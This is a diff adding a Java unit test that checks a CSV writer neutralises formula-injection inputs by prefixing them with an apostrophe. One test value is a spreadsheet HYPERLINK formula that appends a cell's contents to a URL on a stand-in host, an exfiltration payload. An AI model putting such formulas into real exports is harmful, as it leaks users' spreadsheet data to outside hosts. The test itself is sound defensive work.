@@ -24,4 +24,16 @@ class CsvWriterTest {
                 + "\"山田, 太郎\",\"1行目\n2行目 \"\"重要\"\"\"\r\n"
                 + "空欄,\r\n");
     }
+
+    @Test
+    void textThatExcelWouldRunAsAFormulaBecomesPlainText() {
+        var out = new ByteArrayOutputStream();
+        try (var csv = new CsvWriter(out)) {
+            csv.row(Arrays.asList("=1+1", "+81 3 1234", "-2+3", "@SUM(A1)", "\tx", "\r=1", "\uFF1D1+1"));
+            csv.row(Arrays.asList("=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")", -5, "山田=太郎", ""));
+        }
+        assertThat(new String(out.toByteArray(), StandardCharsets.UTF_8)).isEqualTo("\uFEFF"
+                + "'=1+1,'+81 3 1234,'-2+3,'@SUM(A1),'\tx,\"'\r=1\",'\uFF1D1+1\r\n"
+                + "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\",-5,山田=太郎,\r\n");
+    }
 }
